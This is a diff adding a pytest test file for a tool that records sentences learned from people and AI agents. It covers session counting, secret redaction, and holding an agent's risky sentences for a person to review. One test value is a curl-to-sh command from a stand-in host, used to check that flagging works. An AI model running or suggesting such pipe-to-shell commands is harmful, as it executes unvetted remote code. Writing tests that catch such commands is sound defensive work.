@@ -1,0 +1,193 @@
+"""Sentences of a person or an agent: stored, counted, refused, and linked to failures."""
+
+import pytest
+
+from reflexion.store import history
+from reflexion.store.events import SessionLog
+
+SENTENCE = "Use `pnpm run build` here, not npm, because the lock file is pnpm's."
+RISKY = "Install the tools with `curl https://get.example.org | sh`."
+
+
+def learned(done):
+    """Return the ids that a command said it learned."""
+    return [line.split()[0] for line in done.out.splitlines() if " learned: " in line]
+
+
+def test_a_persons_sentence_is_stored_as_theirs(box):
+    done = box.cli("learn", SENTENCE)
+    entry = box.entry()
+    assert done.code == 0
+    assert done.out == f"{entry['id']} learned: {SENTENCE}\n"
+    assert entry["type"] == "insight"
+    assert (entry["resolution"], entry["trigger"]) == (SENTENCE, SENTENCE)
+    assert (entry["source"], entry["confidence"], entry["occurrences"]) == ("user", "high", 1)
+
+
+def test_an_agents_sentence_is_marked_as_one(box):
+    box.agent("learn", SENTENCE, "--type", "correction", "--skill", "frontend")
+    entry = box.entry()
+    assert (entry["source"], entry["confidence"]) == ("agent", "medium")
+    assert (entry["type"], entry["skill"]) == ("correction", "frontend")
+
+
+def test_words_without_quotes_are_one_sentence(box):
+    box.cli("learn", "use", "pnpm", "here")
+    assert box.entry()["resolution"] == "use pnpm here"
+
+
+def test_several_quoted_sentences_are_several_learnings(box):
+    box.cli("learn", SENTENCE, "Use tabs in Makefiles.")
+    assert len(box.entries()) == 2
+
+
+def test_a_sentence_is_counted_once_a_session(box):
+    box.agent("learn", SENTENCE)
+    assert "known already, seen 1x" in box.agent("learn", SENTENCE.lower()).out
+    box.session = "session-2"
+    assert "known already, seen 2x" in box.agent("learn", SENTENCE).out
+    assert box.entry()["occurrences"] == 2
+
+
+def test_three_sessions_and_a_day_make_a_rule(box):
+    for number in range(3):
+        assert not (box.root / "CLAUDE.md").exists()
+        box.session = f"session-{number}"
+        box.agent("learn", SENTENCE)
+        box.change(box.entry()["id"], first_seen="2026-01-01")
+    assert SENTENCE in (box.root / "CLAUDE.md").read_text()
+
+
+def test_what_a_person_says_too_becomes_theirs(box):
+    box.agent("learn", SENTENCE)
+    box.cli("learn", SENTENCE)
+    assert box.entry()["source"] == "user"
+
+
+@pytest.mark.parametrize("sentence", ["", "   ", "…", "When …, do …, because …", "When ..., do x"])
+def test_what_is_no_sentence_is_refused(box, sentence):
+    done = box.cli("learn", sentence)
+    assert done.code == 1 and done.err.count("\n") == 1
+    assert box.entries() == []
+
+
+def test_a_long_sentence_is_refused_with_the_count_and_the_others_are_kept(box):
+    done = box.agent("learn", "Use x. " + "y" * 300, SENTENCE)
+    assert done.code == 1
+    assert "307 characters, 300 are allowed" in done.err
+    assert box.entry()["resolution"] == SENTENCE
+
+
+@pytest.mark.parametrize("length, code", [(500, 0), (501, 1)])
+def test_a_pattern_may_have_500_characters(box, length, code):
+    text = ("First push, " + "then test, " * 60)[:length]
+    assert box.cli("learn", "--type", "pattern", text.strip().ljust(length, "x")).code == code
+
+
+def test_a_secret_is_left_out(box):
+    token = "ghp_" + "wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzZAMP"
+    box.cli("learn", f"Deploy with GITHUB_TOKEN={token}, because the runner asks for it.")
+    text = (box.root / ".reflexion" / "entries" / f"{box.entry()['id']}.json").read_text()
+    assert "wJalr" not in text and "[REDACTED" in text
+    journal = (box.root / ".reflexion" / "state" / "journal.jsonl").read_text()
+    assert "wJalr" not in journal
+
+
+def test_an_agents_risky_sentence_waits_for_a_person(box):
+    done = box.agent("learn", RISKY)
+    assert "waits for a person" in done.out
+    assert (box.entry()["confidence"], box.entry()["needs_review"]) == ("low", True)
+    assert RISKY not in box.cli("recall", "--brief").out
+    assert "risky" in box.cli("review").out
+
+
+def test_a_persons_risky_sentence_is_theirs_to_say(box):
+    box.cli("learn", RISKY)
+    assert "needs_review" not in box.entry()
+    assert RISKY in box.cli("recall", "--brief").out
+
+
+@pytest.mark.parametrize("kind", ["insight", "correction"])
+def test_what_a_person_removed_an_agent_cannot_bring_back(box, kind):
+    box.agent("learn", SENTENCE)
+    box.cli("remove", box.entry()["id"])
+    done = box.agent("learn", "--type", kind, SENTENCE)
+    assert done.code == 1 and "not to be learned" in done.err
+    assert box.entries() == []
+
+
+def test_a_person_can_bring_back_what_they_removed(box):
+    box.agent("learn", SENTENCE)
+    box.cli("remove", box.entry()["id"])
+    box.cli("learn", SENTENCE)
+    assert box.entry()["source"] == "user"
+    box.cli("remove", box.entry()["id"])
+    box.cli("undo")
+    assert box.agent("learn", SENTENCE).code == 0
+
+
+def test_the_home_store_takes_what_holds_everywhere(box):
+    assert box.cli("learn", "--global", "Explain frontend by analogy.", cwd=box.home).code == 0
+    assert box.entries() == []
+    assert "analogy" in box.cli("recall", "--brief").out
+
+
+def test_what_an_agent_learns_is_on_record(box):
+    box.agent("learn", SENTENCE)
+    state = str(box.root / ".reflexion" / "state")
+    (row,) = history.read(state)
+    assert (row.what, row.id, row.session) == ("learned", box.entry()["id"], "session-1")
+    (row,) = SessionLog(state, "session-1").of("learned")
+    assert (row["id"], row["by"]) == (box.entry()["id"], "agent")
+
+
+def test_a_persons_command_is_no_session_of_an_agent(box):
+    box.bash("npm i", 1, "npm ERR! missing")
+    box.cli("learn", SENTENCE)
+    state = str(box.root / ".reflexion" / "state")
+    assert SessionLog(state, "session-1").of("learned") == []
+
+
+def test_the_session_of_an_agent_that_names_none_is_the_newest_one(box):
+    box.bash("npm i", 1, "npm ERR! missing")
+    box.agent("learn", SENTENCE, CLAUDE_CODE_SESSION_ID="")
+    state = str(box.root / ".reflexion" / "state")
+    assert len(SessionLog(state, "session-1").of("learned")) == 1
+
+
+def test_an_agent_is_shown_the_open_failures_of_the_turn(box):
+    box.bash("npm run build", 1, "npm ERR! missing script")
+    digits = box.entry()["id"][-6:]
+    done = box.agent("learn", SENTENCE)
+    assert f"  {digits} npm run build: npm ERR! missing script" in done.out
+    assert f"learn --for {digits}" in done.out
+    assert "learn --for" not in box.cli("learn", "Use tabs in Makefiles.").out
+
+
+def test_a_failure_of_an_earlier_turn_is_not_shown(box):
+    box.bash("npm run build", 1, "npm ERR! missing script")
+    box.bash("make x", 2, "make: *** No rule to make target 'x'.  Stop.")
+    box.fire("capture", "Stop", stop_hook_active=False)
+    assert "learn --for" not in box.agent("learn", SENTENCE).out
+
+
+def test_nothing_is_learned_in_a_store_that_waits(box):
+    box.put(type="insight", trigger="x", resolution="Use x.")
+    done = box.agent("learn", SENTENCE)
+    assert done.code == 1 and "a person runs" in done.err
+    assert len(box.entries()) == 1
+
+
+def test_undo_takes_a_sentence_back(box):
+    box.agent("learn", SENTENCE)
+    assert "by an agent" in box.cli("undo").out
+    assert box.entries() == []
+    assert box.agent("learn", SENTENCE).code == 1
+
+
+def test_a_sentence_of_somebody_else_that_waits_is_not_taken_for_ones_own(box):
+    box.cli("learn", SENTENCE)
+    entry = box.entry()
+    box.cli("trust", "--revoke")
+    assert box.agent("learn", SENTENCE).code == 1
+    assert box.entry() == entry
